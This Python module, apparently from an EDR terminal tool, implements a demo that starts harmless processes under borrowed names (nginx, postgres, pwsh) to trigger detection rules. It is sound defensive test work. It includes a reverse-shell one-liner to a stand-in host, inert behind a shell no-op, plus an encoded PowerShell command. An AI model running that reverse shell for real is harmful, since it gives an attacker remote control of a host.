"""edr-tui demo --live: a real, harmless tree on this host that the rules find suspicious."""

from __future__ import annotations

import argparse
import base64
import contextlib
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from edr_tui.cli.usage import WrongUse, option, seconds

# All of it ends within a minute, also if this program is killed: each process has its own end.
LONGEST = 50.0
_DEFAULT = 40.0

_STORY = """\
edr-tui demo: a harmless tree runs for {seconds:.0f} s, then all of it ends. Watch for:
  Web server starts a shell           nginx starts sh, three times
  Reverse shell through /dev/tcp      one of them, by what stands on its command line
  Database server starts a shell      postgres starts sh
  PowerShell runs an encoded command  pwsh; the detail pane shows the text
  and a sleep whose starter ends after 3 s: it stays below nginx
"""

# What runs under a borrowed name: it starts the scripts, and waits for its end. It comes on standard
# input, so that the command line on the screen is short.
_SERVER = """
import subprocess, sys, time
end = time.monotonic() + {seconds}
children = [subprocess.Popen(["/bin/sh", "-c", script], stdin=subprocess.DEVNULL) for script in {scripts!r}]
while time.monotonic() < end:
    time.sleep(0.2)
    for child in children:
        child.poll()
for child in children:
    child.kill()
    child.wait()
"""


def add_parser(commands: Any) -> None:
    """Declare the command's options."""
    parser = commands.add_parser(
        "demo",
        help="start a harmless suspicious tree, to see it turn red",
        description="Start a real, harmless process tree on this host that the rules find suspicious. "
        "Watch it with edr-tui in another terminal. It ends by itself within a minute.",
        allow_abbrev=False,
    )
    parser.add_argument(
        "--live", action="store_true", help="real processes on this host (the only way so far)"
    )
    parser.add_argument(
        "--duration",
        metavar="S",
        type=option(_duration),
        default=_DEFAULT,
        help=f"seconds, at most {LONGEST:.0f}",
    )
    parser.set_defaults(run=run)


def run(options: argparse.Namespace) -> int:
    """Start the tree and wait for its end; 0, or 128+n when a signal ended it sooner."""
    if not options.live:
        raise WrongUse("demo: say --live: it starts a real, harmless tree on this host")
    signalled: list[int] = []
    with _signals_into(signalled):
        children = _windows(options.duration) if os.name == "nt" else _posix(options.duration)
        print(_STORY.format(seconds=options.duration), end="", file=sys.stderr, flush=True)
        try:
            until = time.monotonic() + options.duration + 1
            while (
                not signalled and time.monotonic() < until and any(child.poll() is None for child in children)
            ):
                time.sleep(0.1)
        finally:
            _end(children)
    print("edr-tui demo: all of it has ended.", file=sys.stderr)
    return 128 + signalled[0] if signalled else 0


def _duration(text: str) -> float:
    duration = seconds(text)
    if duration > LONGEST:
        raise ValueError(f"{text[:40]} is too long: at most {LONGEST:.0f} seconds")
    return duration


@contextlib.contextmanager
def _signals_into(signalled: list[int]) -> Iterator[None]:
    """Signals end the demo in order while this lasts."""
    names = ("SIGINT", "SIGTERM", "SIGHUP")
    numbers = [getattr(signal, name) for name in names if hasattr(signal, name)]
    before = {number: signal.signal(number, lambda got, _: signalled.append(got)) for number in numbers}
    try:
        yield
    finally:
        for number, handler in before.items():
            signal.signal(number, handler)


def _posix(duration: float) -> list[subprocess.Popen[bytes]]:
    """The tree: each process has the name that the kernel takes from the path by which it is started."""
    import tempfile  # not for every start of the program

    rest = f"{duration:.1f}"
    nginx = (
        f"id >/dev/null; uname -a >/dev/null; sleep {rest}",
        f": 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'; sleep {rest}",
        f"sleep {rest} & sleep 3",
    )
    encoded = base64.b64encode("Get-Date; Start-Sleep 30".encode("utf-16-le")).decode("ascii")
    folder = Path(tempfile.mkdtemp(prefix="edr-tui-demo-"))
    children: list[subprocess.Popen[bytes]] = []
    try:
        postgres = (f"sleep {rest}; :",)
        children.append(_as(folder, "nginx", _SERVER.format(seconds=rest, scripts=nginx)))
        children.append(_as(folder, "postgres", _SERVER.format(seconds=rest, scripts=postgres)))
        # Where programs may not be started from there, the rest of the demo does without it.
        with contextlib.suppress(PermissionError):
            children.append(
                _script(folder, "pwsh", f"sleep {rest}; :", "-NoProfile", "-EncodedCommand", encoded)
            )
        time.sleep(0.5)
    except BaseException:
        _end(children)
        raise
    finally:
        # They run by now: nothing is left behind, whatever ends us.
        shutil.rmtree(folder, ignore_errors=True)
    return children


def _as(folder: Path, name: str, code: str) -> subprocess.Popen[bytes]:
    """Our own interpreter, started under another name."""
    path = folder / name
    path.symlink_to(Path(sys.executable).resolve())
    child = _start([str(path), "-I", "-S", "-"], stdin=subprocess.PIPE)
    assert child.stdin is not None
    with child.stdin:
        child.stdin.write(code.encode())
    return child


def _script(folder: Path, name: str, code: str, *arguments: str) -> subprocess.Popen[bytes]:
    """A shell script of that name: the kernel calls its process so."""
    path = folder / name
    path.write_text(f"#!/bin/sh\n{code}\n")
    path.chmod(0o700)
    return _start([str(path), *arguments], stdin=subprocess.DEVNULL)


def _start(command: list[str], stdin: int) -> subprocess.Popen[bytes]:
    """In a group of its own, so that all of it can be ended together."""
    return subprocess.Popen(
        command, stdin=stdin, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )


def _windows(duration: float) -> list[subprocess.Popen[bytes]]:
    """PowerShell with an encoded command that only sleeps."""
    encoded = base64.b64encode(f"Start-Sleep {duration:.0f}".encode("utf-16-le")).decode("ascii")
    return [
        subprocess.Popen(
            ["powershell.exe", "-NoProfile", "-EncodedCommand", encoded],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    ]


def _end(children: list[subprocess.Popen[bytes]]) -> None:
    """End what still runs, with all that it started."""
    for child in children:
        with contextlib.suppress(OSError):
            if os.name == "nt":
                child.kill()
            else:
                os.killpg(child.pid, signal.SIGKILL)
    for child in children:
        with contextlib.suppress(subprocess.TimeoutExpired):
            child.wait(timeout=5)
